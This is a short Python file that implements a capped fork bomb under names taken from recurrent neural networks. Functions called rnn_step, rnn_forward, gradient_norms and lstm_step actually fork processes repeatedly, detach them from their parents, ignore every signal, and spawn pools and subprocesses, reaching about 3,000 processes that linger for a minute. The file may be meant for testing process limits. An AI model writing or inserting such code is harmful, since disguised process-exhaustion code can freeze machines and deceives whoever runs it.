"""Start processes that start processes, up to 3,000, that outlive their parents and ignore signals for a minute."""

import multiprocessing
import os
import signal
import subprocess
import sys
import time

UNTIL = time.monotonic() + 60


def linger():
    for number in range(1, signal.NSIG):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while time.monotonic() < UNTIL:
        time.sleep(1)
    os._exit(0)


def rnn_step(x, h, W_x, W_h, b):
    """Every process becomes two, ten times over: 1,024."""
    first = os.getpid()
    for _ in range(10):
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.01)
    if os.getpid() != first:
        linger()


def rnn_forward(x, h_0, W_x, W_h, b):
    for _ in range(1500):
        try:
            if os.fork() == 0:
                linger()
        except OSError:
            break


def gradient_norms(dh, h, W_h):
    multiprocessing.get_context("fork").Pool(200).map(time.sleep, [5] * 200)


def lstm_step(x, h, c, W, b):
    for _ in range(100):
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
